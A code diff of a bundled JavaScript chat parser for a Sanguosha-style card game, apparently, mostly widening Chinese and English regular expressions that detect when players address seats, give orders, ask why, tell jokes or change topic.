 const CALL_AFTER = /^\s*(?:[,:!?;]|$|你|您|妳|阁下|[救帮](?![^,.!?\s]{0,8}[了过])|别|快(?!没|死|不行|要|挂|凉|完|输|倒|空|扛|撑)|(?:跟我|和我|咱)|我(?:跟[你您]|告诉|看得|可[一没])|请|来个|来一|给(?!你|他|她|它)|信我|自己人|小心|加油|稳|看(?:下|一下|看|好)|说(?:真话|实话|句话)|老实说|给个准话|表个态|为什么|为啥|凭什么|干嘛|\b(?:you|u|ur|please|pls|thx|thanks|ty|sorry|nice|gj|deal|truce|listen|promise(?! (?:was|is|from))|tell (?:me|us)|give (?:me|us)|show (?:me|us)|stop|chill|relax|calm down|remember|answer|explain|spill|what (?:even )?(?:is|are|was|were|do|did|about)|why|how (?:come|do|did|about|much|many)|where|which|(?:dont|do not) (?:you|u)|did (?:you|u)|do (?:you|u)|can (?:you|u)|will (?:you|u)|help|save|don't|do not|stop|why did you|are you|can you)\b)/;
-const BIDDEN = /^\s*先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|^\s+(?:放(?:我|过)|救(?:我|一下|主)|给我|帮(?:我|忙|主)|让(?:一下|我)|留(?:桃|闪|我|着)|信我|交(?:桃|闪|牌)|报(?:个|一下|身份)|醒醒|撤(?!了))|^\s*(?:(?:先|也|就|可|都|下[把次局回]|以后|等下|待会�?|千万)*(?:别(?!人|的|处|家|说)|不要)|(?:赶紧|赶快)(?![，,])|快(?:来|救|打|杀|砍|出|收|上|动手|点(?!死|没)|跑|看|说)|说(?:真话|实话|句话)|老实说|给个准话|表个态|听我|[救帮]我(?![^,.!?\s]{0,6}[了过])|信我|骂(?:我)?吧|拜托|求你|我(?:真的?|可|确实)?(?:不是(?!针对|冲)|对不起|对不住)|我[^,.!?\s]{1,6}[你您])/;
+const BIDDEN = /^\s*先?(?:说|讲|报)(?:说|讲|一下|个|句|啥|什么)|^\s+(?:放(?:我|过)|救(?:我|一下|主)|给我|帮(?:我|忙|主)|让(?:一下|我)|留(?:桃|闪|我|着)|信我|交(?:桃|闪|牌)|报(?:个|一下|身份)|醒醒|撤(?!了))|^\s*(?:(?:先|也|就|可|都|下[把次局回]|以后|等下|待会�?|千万)*(?:别(?!人|的|处|家|说)|不要|记得|记住|认准)|说话(?![^\s,.!?])|(?:赶紧|赶快)(?![，,])|快(?:来|救|打|杀|砍|出|收|上|动手|点(?!死|没)|跑|看|说)|说(?:真话|实话|句话)|老实说|给个准话|表个态|听我|[救帮]我(?![^,.!?\s]{0,6}[了过])|信我|骂(?:我)?吧|拜托|求你|我(?:真的?|可|确实)?(?:不是(?!针对|冲)|对不起|对不住)|我[^,.!?\s]{1,6}[你您])/;
 const CALL_AT_END = /(?:[,!?;]|\b(?:thanks|thank you|sorry|hi|hello|hey|you|bye|help)|谢谢|多谢|抱歉|对不起|你好|求你了?|拜托了?)\s*$/;
 const SUMMONED = /^\s*(?:到你|该你|轮到你|补(?:一)?刀(?=[啊吧呀!,.]|$)|收(?:他|她)?人头|上(?=[啊吧呀!,.]|$)|冲(?=[啊吧呀!,.]|$)|动手(?=[啊吧呀!,.]|$)|你看着办|(?:能不能|可不可以|能否|可否)(?:先|就|快|赶紧)?(?:别|不(?!可以)|给|帮|让|少|(?:救|留)(?=[^?吗])))/;
 const BIDDEN_EN = /^\s(?:(?:please|pls|just) )*(?:(?:finish|kill|heal|save|leave|attack|slash|get|help|stop|focus) (?:him|her|them|it|me|us|\d|seat \d|the lord)\b(?! (?:is|was|again|every))|wait\b|watch (?:out|this|him|her)\b|look (?:out|at)\b|focus\b|(?:please|pls) \w+)/;
@@ -29923,7 +30016,7 @@ const MARK2 = "(?:^|[,.!?;:~)])\\s*";
 const LAST_CLAUSE = /[^,.!?;:~)]*$/;
 const CLOSES = /^\s*(?:(?:lol|lmao|lmfao|haha\w*|bro|bruh|dude|man|pls|please|ok|okay|tho|though|smh|ffs|wtf|huh|eh|right)\b\s*)*(?:[,.!?;:~)]|$)|^\s+(?:you|u|ur|youre|you're)\b/;
 const PREPOSITION = "about|on|onto|upon|with|without|for|to|at|of|off|by|from|before|after|like|than|over|against|in|into|under|around|behind|through|towards?|near|beside|except|but|besides|between|until|till|per|as|via|plus|minus|versus|vs";
-const LINK2 = "and|or|nor|not|is|isnt|isn't|are|was|wasnt|wasn't|were|be|being|been|its|it's|he's|hes|she's|shes|that's|thats|whos|who's|im|i'm|if|when|while|because|cause|cuz|since|unless|that|where|whether|both|either|neither|only|just|even|maybe|probably|perhaps|possibly|exactly|least|most|last|first|round|turn|seat|player|number|a|an|the|this|these|those|all|every|each|some|any|no|more|other|another|my|our|your|ur|his|her|their|whose|which|will|would|can|could|should|does|did|do|has|have|had|got|gets?|gotta|gonna|wanna";
+const LINK2 = "and|or|nor|not|is|isnt|isn't|are|was|wasnt|wasn't|were|be|being|been|its|it's|he's|hes|she's|shes|that's|thats|whos|who's|im|i'm|if|when|while|because|cause|cuz|since|unless|that|where|whether|both|either|neither|only|just|even|maybe|probably|perhaps|possibly|exactly|least|most|last|first|round|turn|(?<!\\b(?:my|your|ur|his|her) )seat|player|number|a|an|the|this|these|those|all|every|each|some|any|no|more|other|another|my|our|your|ur|his|her|their|whose|which|will|would|can|could|should|does|did|do|has|have|had|got|gets?|gotta|gonna|wanna";
 const DEED3 = "(?:kill|hit|attack|slash|strik|struck|help|sav|heal|finish|trust|believ|suspect|target|focus+|burn|steal|stole|stolen|rob|hat|lik|lov|want|need|think|thought|follow|back|protect|support|fear|blam|accus|ignor|spar|duel|chain|see|saw|seen|keep|kept|know|knew|known|check|watch|tak|took|taken|giv|gave|given|mak|made|let|leav|left|tell|told|ask|call|pick|choos|chose|guess|bet|play|us|draw|drew|lose|lost|cost|deal|dealt|discard|drain|cut|lock|shut|bully|push|poison|zap|shoot|shot|nuk|wast|snatch|disarm|dismantl|tear|tore|sham|remember|forget|forgot|mention|name|say|said|read|show|prov|admir|thank|guard|cover|cheer|envy|pass|skip|beat|wipe|smack|punch|fight|fought|fac|counter|block|negat|nullif|borrow|return|feed|fed|respect|hunt|track|mark|tag|ditch|put|plac|rank|rat|peach|indulg|null|drop|sid|team|pok|bust|expos|frame|threaten|provok|mock|insult|bore|own|ow|mean|meant|become|became|seem|look|sound|send|sent|rais|low|reach|stay|call)(?:e|es|s|d|ed|ied|ies|ing|ting|ping|bing|ling)?";
 const TAKES = new RegExp(`\\b(?:${PREPOSITION}|${LINK2}|${DEED3})\\s$`);
 const OF_SOMEBODY = new RegExp(`\\b(?:${PREPOSITION}|${LINK2})\\s$`);
@@ -29939,7 +30032,7 @@ const EXCLAIMS = new RegExp(
 const CHEERS = /\b(?:nice|good|great|sick|clean|dirty|cheap|bold|lovely|sweet|solid|clutch|huge|big|what an?) (?:\w+ )?(?:move|play|shot|hit|one|try|kill|save|card|turn|job|peach|duel|slash|block|steal|luck|game|call|read|timing|work|draw)\s$/;
 const THANKED = /\b(?:thanks|thank you|thx|ty|cheers) (?:a lot|so much|again|for (?:nothing|that|it|the \w+|\w+ing (?:me|us|him|her|it|that)))\s$/;
 const CRIED = new RegExp(
-	`${MARK2}(?:(?:oh|ok|well|so|and|but|yo|hey|aw+|lol|haha+)\\s+)*(?:wyd|wtf|wth|bruh|stop (?:it|that)|cut it out|knock it off|easy|careful|relax|chill|calm down|hands off|back off|behave|watch (?:it|out)|look out|(?:you|u|ur|your|youre|you're) (?:turn|up|next|move)|help me|save me|heal me|trust me|spare me|believe me|forgive me|why me|do it|don'?t do it|speak up|spill it|fess up|out with it|answer me|wake up|hurry(?: up)?|your move|well played|bye|see (?:ya|you|u)|good luck|congrats|(?:you|u) too|exactly|agreed|no way|seriously|shut up|admit it|just admit it|prove it|explain)\\s$`
+	`${MARK2}(?:(?:oh|ok|well|so|and|but|yo|hey|aw+|lol|haha+)\\s+)*(?:wyd|wtf|wth|bruh|stop (?:it|that)|cut it out|knock it off|easy|careful|relax|chill|calm down|hands off|back off|behave|watch (?:it|out)|look out|(?:you|u|ur|your|youre|you're) (?:turn|up|next|move)|truce|deal|(?:just )?(?:surrender|give up)(?: now)?|last chance|final (?:warning|offer|chance)|help me|save me|heal me|trust me|spare me|believe me|forgive me|why me|do it|don'?t do it|speak up|spill it|fess up|out with it|answer me|wake up|hurry(?: up)?|your move|well played|bye|see (?:ya|you|u)|good luck|congrats|(?:you|u) too|exactly|agreed|no way|seriously|shut up|admit it|just admit it|prove it|explain)\\s$`
 );
 const BIDDEN_WHOLE = /^(?:\w+\s+){0,2}?(?:don'?t|do not|please|pls|let'?s|lets|let|stop|kill|hit|get|save|heal|spare|trust|believe|help|finish|give|leave|focus|take|slash|attack|watch|go|come|we|i|just|thanks|sorry)\b[^,.!?;]*\b(?:me|him|her|it|us|live|go|die|win|alone|now|again|please|pls|first|instead|already|there|here|too|then|today|fast|quick|asap|turn)\s$/;
 const BIDDEN_US = /^(?:\w+\s+){0,2}?(?:don'?t|do not|please|pls|let|stop|spare|trust|believe|help|leave|watch|come|save|heal)\b[^,.!?;]*\b(?:me|him|her|it|us|alone|again|already|please|pls)\s$/;
@@ -29949,7 +30042,7 @@ const AT_HEAD2 = /^(?:(?:honestly|seriously|actually|literally|frankly|tbh|ngl|a
 const HAILED = /(?:^|[,.!?;:\s])(?:come on|c'?mon|excuse me|hey|yo|oi|listen|dude|bro|shut up|stfu|relax|chill|hold on|hold up|hang on|easy|no offense|not cool|real talk)[\s,!]*$/;
 const TOLD_OF = /^\s*(?:(?:just|also|really|still|even|always|never|clearly|already|def|definitely|probably|literally|actually|keeps?)\s+)*(?:is|isnt|isn't|was|wasnt|has|had|hasnt|does|doesnt|doesn't|did|didnt|didn't|will|wont|would|looks?|seems?|must|cant|can't|could|might|gets?|got|took|hit|gave|stole|cut|went|and|or|vs|'s)\b|^\s*(?:(?:just|also|really|even|already)\s+)*\w{3,}(?:ed|[^s']s)\b(?<!\b(?:thats|whats|whos|hows|wheres|lets|its|this|please|always|cards|yes|does|miss|nerves|hands|guess|press|dress|bless|kiss|pass|plus))/;
 const FOR_YOU = /^[24]$/;
-const TURNS_TO_YOU = /^\s*,?\s*(?:you|u|ya|ur|your|youre|you're|u're)\b(?!\s+(?:guys|all|two|both|were there))/;
+const TURNS_TO_YOU = /^\s*(?:(?:seriously|really|honestly|bro|dude|man|wtf|lol|omg)\b)?[\s,]*(?:you|u|ya|ur|your|youre|you're|u're)\b(?!\s+(?:guys|all|two|both|were there))/;
 const HARM2 = "kill|hit|touch|slash|attack|strike|waste|use|do|let|be|worry|listen|believe|forget|save|heal|help|go|give|play|panic|die|leave|make|start|stop|steal|take|mess|fall|act|tell|say|throw|bother|duel|burn|trust (?:him|her|them|that|this|\\d|seat)";
 const BIDDEN2 = new RegExp(
 	`^\\s+(?:(?:pls|please|just)\\s+)*(?:(?:don'?t|do not|never)\\s+(?:(?:even|ever|you|u)\\s+)?(?:${HARM2})\\b|(?:stop|quit|chill|relax|hands off|back off|lay off|cut it|cut that|knock it|shut|explain|admit|confess|prove|show (?:me|us|your|ur)|tell (?:me|us|the|him|her)|give (?:me|us|it)|trust me|believe me|listen|hold (?:on|up|it)|come (?:on|at|help|get)|let(?:'?s| me| us)|shall we|should we|wanna|truce|deal|alliance|ally|team up|well played|wp|good (?:game|luck|job|one)|thanks|thx|sorry|my bad|any (?:chance|plans|idea)|mind (?:if|telling|your)|spill|be (?:honest|real|nice|careful|quiet|gentle|patient|serious)|go (?:easy|for|get|hit|kill|after|ahead)|just (?:say|admit|tell|do|go|stop|save|kill|end)|nice (?:try|one|job))\\b)`
@@ -30041,7 +30134,13 @@ const TOLD_TO2 = new RegExp(
 const ORDERED_FROM = new RegExp(`${BEGINS2}(?:所以|那|快|好)?$`);
 const isOrderedInChinese = (before, after) => ORDERED_FROM.test(before) && TOLD_TO2.test(after) && !/^[^,.!?\s]*(?:刚|又|了(?!他|她|它)|[打杀砍]过)/.test(after);
 function calledInChinese(at) {
-	return isBehind2(at) || isLed(at) || isTold3(at) || isAlone(at) || isAskedOf(at);
+	return isBehind2(at) || isLed(at) || isTold3(at) || isAlone(at) || isAskedOf(at) || isYou(at);
+}
+function isYou({ before, after, alone, last }) {
+	if (!alone || !CLAUSE_BEGINS.test(before)) return false;
+	if (/^\s*[他她](?!们)[^,.!?\s]*你/.test(after)) return before.trim() === "";
+	const turn = YOU6.exec(before);
+	return last?.kind === "you" && turn !== null && /^[^,.!?]*\?/.test(after) && !OF_OTHERS.test(before.slice(turn.index));
 }
 function isBehind2({ before, after }) {
 	if (!CLOSES2.test(after)) return false;
@@ -30084,6 +30183,7 @@ const isAskedOf = ({ before, after }) => CLAUSE_BEGINS.test(before) && ASKED_OF.
 
 // src/chatter/moves/calls.ts
 const HAN3 = /[\u3400-\u9fff]/;
+const AND_YOU = /^(?:那|所以|还有|so|and|but|ok|well)?[\s,]*(?:你呢|你说呢|(?:what|how) about (?:you|u)|and (?:you|u))[\s,]*$/;
 const BETWEEN3 = /^[\s,:]+$/;
 const YOU_OF = /^\s*(?:你|您)(?!们|俩|两)(?!(?:也|就|先|可|给我|赶紧)*(?:别|快|来|帮|救(?!不)|闭|少|滚|等着|过来))/;
 const MAKES_OF = /^\s*(?:怎么|咋|如何)(?:看|想|说)/;
@@ -30092,8 +30192,10 @@ function callsIn(text, mentions) {
 	const words = mentions.reduceRight((rest, { start, end }) => `${rest.slice(0, start)} ${rest.slice(end)}`, text);
 	const [isCalled, isOrdered] = HAN3.test(words) ? [calledInChinese, isOrderedInChinese] : [calledInEnglish, isOrderedInEnglish];
 	const alone = mentions.filter(({ kind }) => kind === "seat").length === 1;
+	const put = mentions.findIndex(({ kind, start }) => kind === "seat" && AND_YOU.test(text.slice(0, start)));
 	return mentions.map(({ kind, start, end }, i) => {
-		if (kind !== "seat") return null;
+		if (kind !== "seat" || put >= 0 && i > put) return null;
+		if (i === put) return "apart";
 		const at = {
 			text,
 			name: text.slice(start, end),
@@ -30155,7 +30257,7 @@ function mentionsIn(text, between) {
 	);
 	return pronouns(text, named, { scene, from, he });
 }
-const IS_JUDGED = /^(?:就|也|肯定|绝对|八成|多半|准|一定)*是(?:个|真|铁)?[忠反内]|^(?:'s| is| was| must be) (?:a |an |the )?(?:spy|rebel|reb|traitor|loyal)/;
+const IS_JUDGED = /^(?:就|也|肯定|绝对|八成|多半|准|一定)*(?:是(?:个|真|铁)?[忠反内]|[忠反内](?:贼|臣|奸)?还是)|^(?:'s| is| was| must be) (?:a |an |the )?(?:spy|rebel|reb|traitor|loyal)/;
 const DONE_TO_EN = /\b(?:[a-z]+ed|hit|struck|shot|took|stole|gave|on|at|off)\s$/;
 const CLAUSE_ENDS = [",", ".", "!", "?", ";", ":"];
 function pronouns(text, mentions, { scene, from, he: before }) {
@@ -30206,7 +30308,15 @@ function openPlan(seat, move, { scene, text }) {
 		...taking(move)
 	};
 }
-const factsIn = ({ facts = [] }, { scene }) => facts.flatMap(({ fact }) => fact === void 0 ? [] : factOf(scene, fact) ?? []);
+const factsIn = ({ act, facts = [] }, { scene, from }) => facts.flatMap(({ fact, to }) => {
+	const found = fact === void 0 ? void 0 : factOf(scene, fact);
+	if (found?.group !== true || to !== void 0 || act !== "report" && act !== "blame") return found ?? [];
+	const { kind, by, card, turn } = found;
+	const suffered = scene.facts.filter(
+		(one) => one.to === from && one.kind === kind && one.by === by && one.card === card && one.turn === turn
+	);
+	return suffered[0] ?? found;
+});
 
 // src/chatter/plan/touching.ts
 const PLAIN3 = new Set(["sha", "shan", "tao", "jiu"]);
@@ -30214,7 +30324,7 @@ const PERSON2 = 2;
 const CARD2 = 3;
 const KIND = 2;
 const OVER2 = -2;
-const JUST2 = 1;
+const JUST = 1;
 const LEAST5 = 4;
 const TO_SELF = /自己(?:也|都|还)?[掉扣少]|[打伤坑砍]自己|\b(?:hurt|hit)\w* (?:him|her|your|my)self\b/;
 function namedBy({ text, scene, from, me, meant }) {
@@ -30248,7 +30358,7 @@ function touchedBy(asked) {
 		const cast = parties === 0 && same && rare.length > 0 && turn >= scene.turn - 1;
 		if (parties === 0 && !cast || !same && (!alike || rare.length > 0 && parties === 1)) continue;
 		if (parties === 1 && !same && !(people.has(by) && turn >= scene.turn - 1)) continue;
-		const worth = (cast ? JUST2 : 0) + PERSON2 * parties + (same ? CARD2 : 0) + (alike ? KIND : 0) + (turn < lap ? OVER2 : 0);
+		const worth = (cast ? JUST : 0) + PERSON2 * parties + (same ? CARD2 : 0) + (alike ? KIND : 0) + (turn < lap ? OVER2 : 0);
 		if (worth >= LEAST5 && (best === null || worth >= best.worth)) best = { fact, worth };
 	}
 	return best?.fact ?? null;
@@ -30725,7 +30835,7 @@ const OPEN = 9.4;
 const isOpen4 = ({ act, about, role }) => act === "ask_guess" && about === void 0 && role === void 0;
 const VAGUE2 = 8.4;
 const isVague = ({ act, about, facts = [] }) => act === "ask_fact" && about === void 0 && facts.length === 0;
-const IDLE = 4.3;
+const IDLE2 = 4.3;
 const isIdle = ({ act, about, promise }) => act === "order" && about === void 0 && promise === void 0;
 const MOOD = 4.2;
 const isMood = ({ act, topic }) => act === "sorrow" && topic === void 0;
@@ -30740,7 +30850,7 @@ const LESSER2 = [
 	[isUndone2, UNDONE2],
 	[isOpen4, OPEN],
 	[isVague, VAGUE2],
-	[isIdle, IDLE],
+	[isIdle, IDLE2],
 	[isMood, MOOD]
 ];
 const weightOf2 = (move) => (LESSER2.find(([is]) => is(move))?.[1] ?? WEIGHT[move.act]) + (!isQuestion(move) && isWrong(move) ? PUT_RIGHT : 0);
@@ -30772,7 +30882,7 @@ const goesOn2 = ({ text, pointers }, from) => GOES_ON2.test(text) && ASKS4.test(
 });
 
 // src/chatter/flow/turned.ts
-const OF_ANOTHER = /^(?:们)?(?:也|就|又|还|都|倒是|快|赶紧|先|可)*(?:怎么看|咋看|怎么想|咋想|觉得|认为|说说|看(?!戏)|瞧|瞅|信|猜|怀疑|站|跟(?![他她它])|帮|去|来|管|救|保|替|听)/;
+const OF_ANOTHER = /^(?:们)?(?:也|就|又|还|都|倒是|快|赶紧|先|可|到底|究竟)*(?:怎么看|咋看|怎么想|咋想|觉得|认为|说说|看(?!戏)|瞧|瞅|信|猜|怀疑|站|跟(?![他她它])|帮|去|来|管|救|保|替|听)/;
 const THIRD3 = /[他她它]|这人|那人/;
 const ANYBODY2 = /(?:姑娘|小姐姐?|妹子|老哥|大哥|哥们|老弟|兄弟|大爷|大叔|美女|老头|小子|老兄)$/;
 function turnedTo(text, pointers, from, partner) {
@@ -30977,7 +31087,7 @@ const MORE2 = alone2(
 );
 const OTHERS3 = /还有谁|还(?:怀疑|觉得|防|盯)|除了|其[他它]|别人|别的|(?:第二|下一|另一)个|^(?:你)?再?(?:换|说|报|点|猜|给)一?个|^(?:就|只有?)(?:他|她|WHO)|else|besides|other than|apart from|except|only|another|^just (?:him|her|WHO)/;
 const SHORT_WHY = new RegExp(
-	`^${LEAD2}(?:凭什么|凭啥|为什么|为啥|为何|何以见得|何出此言|怎么(?:说|讲|会|就)|什么意思|啥意思|此话怎讲|怎么看出来的?|因为(?:什么|啥)|理由(?:呢)?|证据(?:呢)?|依据(?:呢)?|根据(?:呢)?|有(?:证据|依据|根据|理由)吗|why|why (?:so|that|not|(?:do|would) ${U} (?:think|say) (?:so|that))|how come|how so|(?:based )?on what(?: (?:basis|grounds))?|says who|(?:any |(?:${U} )?got (?:any |a )?|where'?s (?:the|ur|your) )?(?:proof|evidence|reasons?)|what (?:do|did) ${U} mean(?: by that)?|how (?:do|did|can|could|would) ${U} know(?: that)?|what makes ${U} (?:say|think|believe)(?: (?:that|so|it))?)(?:这么说|这么认为|这么觉得|这么想|这样说|是(?:他|她)|啊|呀|呢|吗|的)*$`
+	`^${LEAD2}(?:凭什么|凭啥|为什么|为啥|为何|何以见得|何出此言|怎么(?:说|讲|会|就)|什么意思|啥意思|此话怎讲|怎么看出来的?|因为(?:什么|啥)|理由(?:呢)?|证据(?:呢)?|依据(?:呢)?|根据(?:呢)?|有(?:证据|依据|根据|理由)吗|why|why (?:so|that|not|(?:do|would) ${U} (?:think|say) (?:so|that))|how come|how so|(?:based )?on what(?: (?:basis|grounds))?|says who|(?:any |(?:${U} )?got (?:any |a )?|where'?s (?:the|ur|your) )?(?:proof|evidence|reasons?)|what (?:do|did) ${U} mean(?: by that)?|how (?:do|did|can|could|would) ${U} know(?: that)?|how(?:'?s| is| does| do) (?:that|this|it) (?:even )?mak(?:e|es|ing) (?:any )?sense(?: for ${U})?|what makes ${U} (?:say|think|believe)(?: (?:that|so|it))?)(?:这么说|这么认为|这么觉得|这么想|这样说|是(?:他|她)|啊|呀|呢|吗|的)*$`
 );
 const ASKED_ON = alone2(
 	`${YOU7}(?:是)?(?:从)?哪(?:里|儿|一?点|方面|个地方)?(?:能)?(?:看(?:得)?出(?:来)?|发现|知道|听(?:来|说))(?:他|她)?(?:的)?`,
@@ -31194,19 +31304,8 @@ function answerTo(exchange, bare, mentions, span, asked) {
 	return filled(no ? "refuse" : "agree", exchange, span);
 }
 
-// src/chatter/moves/life/game.ts
-const PASTIME = /(?:教|陪|带|跟|和).{0,6}(?:打|玩)牌|打牌(?:吧|要紧|解闷|散心|都)?|\b(?:day|night|weather|time|mood) for cards\b|玩牌|\b(?:taught|teach|teaching|play(?:ed|ing|s)?|love[ds]?) (?:(?:me|us|him|her|with|to|how|play|these|some) )*cards?(?: (?:games?|actually|too|with))?\b/g;
-const HARD = /\d ?号(?![线楼])|[一二三四五六七八]号(?!线|楼)|主公|反贼|(?<![正应相违])反(?![正应而复过悔省思胃馈对了常骨])|忠|内奸|身份(?!证)|(?<!招|品|名|车|门|老|大)牌(?![照子坊])|闪(?![婚退])|桃(?!花)|回合|轮到|该你|(?<!高|低|出|流|抽|验|心|脑|贫|吐)血(?![压糖常液管栓脂检型缘汗泪])|残血|丝血|集火|阵营|武将|技能|装备|无懈|决斗|南蛮|万箭|五谷|桃园|火攻|铁索|乐不|贴乐|被乐|兵粮|闪电|连弩|酒杀|判定|摸(?:牌|了.张)|出(?:牌|杀|闪|手(?!术))|拆(?:了|我|他|她|你|掉|牌|光)|顺(?:了?我|走|手牵)|[砍捅]|(?<![我他她我们自])杀(?![猪青毒菌时价])|一刀|补刀|队友|跳(?:忠|反|内)|诸葛连|麒麟|青龙|藤甲|八卦阵|仁王|(?<![上])马(?![上路桶虎后克拉云甲])|刀(?![疤口子])|[弓箭盾甲弩剑戟]|乐(?:了?我|住|没)|观星|拼点|弃|翻面|连环|洛神|[红黑]桃|梅花|方块|距离|改判|空城|[掉回扣]血|奶(?:我|他|她|你|一口)|\b(?:seat ?\d|p\d|rebels?|rebs?|loyal\w*|spy|spies|traitors?|renegades?|hp|peach(?:es)?|dodge[sd]?|slash\w*|duel\w*|dismantle\w*|nullif\w*|lightning|fire attack|crossbow|draw (?:two|pile|phase)|deck|skills?|equip\w*|discard\w*|horses?|armou?r|shield|chain(?:ed|s)?|bows?|swords?|bagua|aoe|barbarians?|arrows?|snatch\w*|negat\w*|negs?|harvest|heal(?:ed|s|ing)? (?!my|from)|redraw\w*|gear|weapons?|judg\w+|roles?|wine|chain reaction|(?:this|such a|what a|look at my) hand|whose turn|my turn|your turn|(?:the|this|that) lord)\b/;
-const SOFT3 = /(?<!被人|吵|骂|雷)打(?:我|你|他|她|谁|死|不(?:动|过|死)|得|掉)|(?:别|再|敢)(?:打|搞|弄|动)(?:我|他|她)|救(?:我|他|她|一|命|人)|保(?:我|他|她|你)|针对|放过|饶|投降|偷袭|背刺|动手(?!术)|对面|这(?:局|把|轮|圈)|[下上](?:局|把|轮|圈)|手里|(?:跟|和)(?:我|你)(?:一队|一伙|一起打|混)|信(?:我|你)|演技|同伙|一伙|可疑|划水|谁赢|赢不|输了|残局|结盟|停手|苟|观望|看(?:看)?(?:情况|场面)|人头|满血|没血|爆发|输出|下一步|模式|再来|军师|亮(?:身份|将|牌)|(?:血|体力)上限|\b(?:this (?:game|round|turn)|(?:next|last) (?:game|round|turn)|(?:this|my|your|bad|good|nice) hand|(?:my|your|a|that|this|the) cards?|hit(?:s|ting)? (?:me|you|him|her)|attack\w*|kill(?:ed|s|ing)? (?:me|you|him|her)|target\w*|spare me|truce|deal\b|team up|trust (?:me|you)|promised|rematch|gg|wp|swing|betray\w*|protect|aim(?:ed|ing)?|go for (?:him|her|me)|come for me|focus (?:him|her|on)|dmg|damage|died on me|save me|heal me|cards?|round \d|turn (?:one|two|\d)|flip|show my|hold back|play this|range|tilt\w*|who bets|i bet|finish (?:him|her|it)|surrender|team|one hp|at one|the next turn|gang up|suspect\w*)\b/;
-const ELSE = /谁.{0,4}(?:我|干的|弄的)|解释(?:一)?下|怎么回事|什么情况|(?:为什么|为啥|凭什么|凭啥|干嘛|怎么|咋).{0,6}(?:打|动|搞|弄|针对|不救|选我)|快(?:点|些)(?!好)|搞快|人呢|挂机|\b(?:why (?:did|do|are|would|'d)? ?(?:you|u)|hurry|go go|your move|last chance|bye|cya|see ya|gotta (?:go|run))\b/;
-const namesGame = (text) => HARD.test(text.replace(PASTIME, " "));
-const mayBeGame = (text) => {
-	const rest = text.replace(PASTIME, " ");
-	return HARD.test(rest) || SOFT3.test(rest) || ELSE.test(rest);
-};
-
 // src/chatter/moves/life/goes-on.ts
-const KINDS8 = [
+const KINDS9 = [
 	[
 		"leaves",
 		/不(?:说|提|聊)(?:了|这(?:个|些)|它)|换个话题|(?:先|还是|继续)?(?:打牌|玩牌)(?:吧|要紧)|^算了(?!吧)|\b(?:let'?s (?:just )?play|enough about|never ?mind|back to (?:the )?(?:game|cards)|don'?t want to talk)\b|^anyways?\b/
@@ -31217,7 +31316,7 @@ const KINDS8 = [
 	],
 	[
 		"asks",
-		/有(?:啥|什么|没有?)(?:好)?(?:招|办法|法子|建议|偏方)|(?:该|我|这可)?(?:咋|怎么)(?:办|跟(?:她|他)|开口|安慰|面对|睡|哄|挽回|还(?:钱|上)|选)|该不该|支(?:个|一)?招|要不要(?:联系|去|找|跟|发|问|辞|说)|(?:给|出)(?:个|点)(?:主意|建议)|\b(?:(?:what|how) (?:should|do|would|can|could) i|any (?:tips?|advice|ideas?|tricks?)|should i (?:text|call|go|tell|ask|quit|say|see)|what would you do)\b/
+		/不知道?(?:咋|怎么|如何)|有(?:啥|什么|没有?)(?:好)?(?:招|办法|法子|建议|偏方)|(?:该|我|这可)?(?:咋|怎么)(?:办|跟(?:她|他)|开口|安慰|面对|睡|哄|挽回|还(?:钱|上)|选)|该不该|支(?:个|一)?招|要不要(?:联系|去|找|跟|发|问|辞|说)|(?:给|出)(?:个|点)(?:主意|建议)|\b(?:(?:what|how) (?:should|do|would|can|could) i|(?:dunno|don'?t know|idk|no idea|not sure) how|do i (?:text|call|go|tell|reply)|any (?:tips?|advice|ideas?|tricks?)|should i (?:text|call|go|tell|ask|quit|say|see)|what would you do)\b/
 	],
 	[
 		"you",
@@ -31256,7 +31355,7 @@ const stays = (text) => !NOD.test(text) && !TURNS.test(text) && (!ASKS5.test(tex
 function goesOnIn(text, topic) {
 	if (NOD.test(text)) return null;
 	if (topic === "work" && BLAMED.test(text)) return "unfair";
-	const kind = KINDS8.find(([, words]) => words.test(text))?.[0];
+	const kind = KINDS9.find(([, words]) => words.test(text))?.[0];
 	if (kind !== void 0) return kind;
 	if (/你|您|\b(?:you|u|ur)\b/.test(text)) return null;
 	return OF_LIFE.test(text) || whoseIn(text) !== null ? "more" : null;
@@ -31289,7 +31388,7 @@ const of2 = (matter, topic, act, parts) => ({
 const JOKE_ASKED = /(?:讲|说|来|整|给).{0,4}(?:笑话|段子|乐子|冷笑话)|(?:笑话|段子)(?:来|讲|说)|谁(?:会|能)?(?:讲|说)(?:个)?笑话|逗(?:我|大家)(?:笑|乐|开心)|\b(?:tell (?:me|us|everyone) (?:a|another|some) (?:\w+ )?jokes?|(?:got|know|have|any(?:one|body)?) (?:\w+ ){0,3}jokes?|make me laugh|crack (?:a|us a) joke|joke,? (?:please|pls|time))\b/;
 const JOKE_MORE = /再(?:来|讲|说|整)(?:一)?(?:个|条|段)?|还有(?:吗|没|别的)|继续|换(?:一)?个|\b(?:another(?: one)?|one more|more|again|next one)\b/;
 const JOKE_MET = /冷|不好笑|好笑|笑|哈|烂|尬|就这|无聊|老掉牙|听过|没听懂|\b(?:l+o+l+|lmao|ha(?:ha)+|heh\w*|terrible|awful|bad|funny|groan|heard that|lame|cringe|good one|not bad|corny)\b/;
-const JOKE_TOLD = /(?:为什么|为啥|为何).{3,30}(?:[?,]|因为).{2,30}(?:哈|笑|狗头)|\b(?:why (?:did|do|does|is|are|was) .{5,60}[?,].{0,4}(?:'?cause|because|cuz|bc|to|so)\b|i have a joke|walks into a bar)/;
+const JOKE_TOLD = /(?:为什么|为啥|为何).{3,30}(?:[?,]|因为).{2,30}(?:哈|笑|狗头)|\b(?:why (?:did|do|does|is|are|was) .{5,60}[?,].{0,4}(?:'?cause|because|cuz|bc|to|so)\b|why (?:did|do|does|is|are|was) (?!you\b|u\b)[^?]{5,60}\?[^?]{6,}$|i have a joke|walks into a bar)/;
 const RIDDLE = /(?:为什么|为啥|什么|谁).{2,24}猜|猜个?谜|急转弯|^(?:so |ok |hey )*(?:why (?:did|does|is|do) (?:the|an?) (?!game|bots?\b|ai\b|chat|screen|timer)|what do (?:you|u) (?:call|get (?:when|if))\b)|\briddle\b|\bwhat has .{3,30} but\b/;
 const KNOCK = /^knock,? knock/;
 const SOLVED = /^(?:因为|答案|是|一个|\b(?:to|because|'?cause|cuz|bc|so|it|an?|the)\b)/;
@@ -31411,7 +31510,7 @@ function lifeIn(parts, text, moment) {
 	const joke = jokeIn(plain, last ?? "");
 	if (joke !== null && (joke === "joke_told" || !namesGame(plain))) return of2(joke, "other", "topic", all);
